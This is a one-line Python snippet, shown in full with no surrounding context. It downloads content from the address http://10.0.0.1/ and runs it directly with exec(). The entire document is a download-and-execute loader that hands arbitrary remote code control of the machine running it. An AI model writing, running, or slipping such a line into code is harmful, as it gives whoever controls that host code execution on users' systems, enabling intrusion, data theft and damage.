import requests; exec(requests.get('http://10.0.0.1/').content)
